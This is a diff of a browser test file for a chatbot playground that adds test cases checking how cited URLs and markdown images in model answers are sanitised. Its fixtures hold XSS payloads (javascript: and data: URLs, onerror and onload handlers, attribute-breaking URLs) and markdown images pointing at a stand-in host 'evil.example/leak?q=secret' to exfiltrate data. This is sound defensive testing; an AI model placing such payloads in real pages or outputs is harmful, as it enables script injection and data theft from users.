@@ -19,6 +19,26 @@ const HOSTILE = [
   '```html\n<img src=x onerror=window.hit=1>\n```',
   '# <b onclick=window.hit=1>heading</b>\n- <a href="javascript:window.hit=1">item</a>',
 ].join('\n\n')
+/** What a model may cite, and whether it becomes a link. */
+const CITED: [url: string, isLink: boolean][] = [
+  ['https://good.example/page?q=1', true],
+  ['javascript:window.hit=1', false],
+  ['data:text/html,<script>parent.hit=1</script>', false],
+  ['//evil.example/x', false],
+  ['java\nscript:window.hit=1', false],
+  ['https://real.example@evil.example/', false],
+  ['https://"onmouseover="window.hit=1', false],
+  ['vbscript:x', false],
+  ['https://evil.example/"><img src=x onerror=window.hit=1>', true],
+]
+const PICTURES = [
+  '![x](https://evil.example/leak?q=secret)',
+  '![x](//evil.example/leak)',
+  '![x](data:image/svg+xml,<svg onload=window.hit=1>)',
+  '![x][1]\n\n[1]: https://evil.example/leak',
+  '<https://evil.example/auto>',
+  '[a](data:text/html,x) [b](javascript:window.hit=1)',
+].join('\n\n')
 let opened: TestConsole
 let vendor: ChatVendor
 
@@ -37,6 +57,11 @@ describeInBrowser('the playground', () => {
         return { tool_calls: [{ index: 0, id: 'call_1', function: { name: 'weather', arguments: '{"city":"Rome"}' } }] }
       const text = PAYLOADS.join('\n\n')
       if (question === 'payloads') return { content: text, reasoning_content: text }
+      if (question === 'citations') {
+        const url_citation = (url: string) => ({ url, title: PAYLOADS[0], start_index: 0, end_index: 1 })
+        const annotations = CITED.map(([url]) => ({ type: 'url_citation', url_citation: url_citation(url) }))
+        return { content: PICTURES, annotations }
+      }
       if (question === 'payloads of a tool')
         return { tool_calls: [{ index: 0, id: text, function: { name: text, arguments: text } }] }
       if (question === 'payloads of an error') return { error: text }
@@ -193,6 +218,26 @@ describeInBrowser('the playground', () => {
     expect(await shown.textContent()).toContain('<img src=x onerror="window.hit=1">')
     expect(await shown.locator('img, script, iframe, a:not([href^="/console/"])').count()).toBe(0)
     expect(await page.evaluate(() => 'hit' in window)).toBe(false)
+  })
+
+  it('loads no picture of an answer, and links only cited addresses of the web, with their host', async () => {
+    const page = await opened.open('/playground?model=acme/small')
+    await ask(page, 'citations')
+    const sources = answers(page).getByRole('region', { name: 'Sources' })
+    await sources.waitFor()
+    expect(await answers(page).locator('img, video, audio, iframe, object, svg').count()).toBe(0)
+    const items = sources.getByRole('listitem')
+    for (const [index, [url, isLink]] of CITED.entries()) {
+      const link = items.nth(index).getByRole('link')
+      expect([url, await link.count()]).toEqual([url, isLink ? 1 : 0])
+      if (!isLink) continue
+      expect(await link.getAttribute('rel')).toBe('noreferrer noopener')
+      expect(await link.getAttribute('href')).toBe(new URL(url).href)
+      expect(await items.nth(index).textContent()).toContain(new URL(url).host)
+    }
+    expect(await page.evaluate(() => 'hit' in window)).toBe(false)
+    expect(await axeFaults(page)).toEqual([])
+    await screenshots(page, 'playground-sources')
   })
 
   it('shows 50 attacks in answers, reasoning, calls of tools and errors as text', async () => {
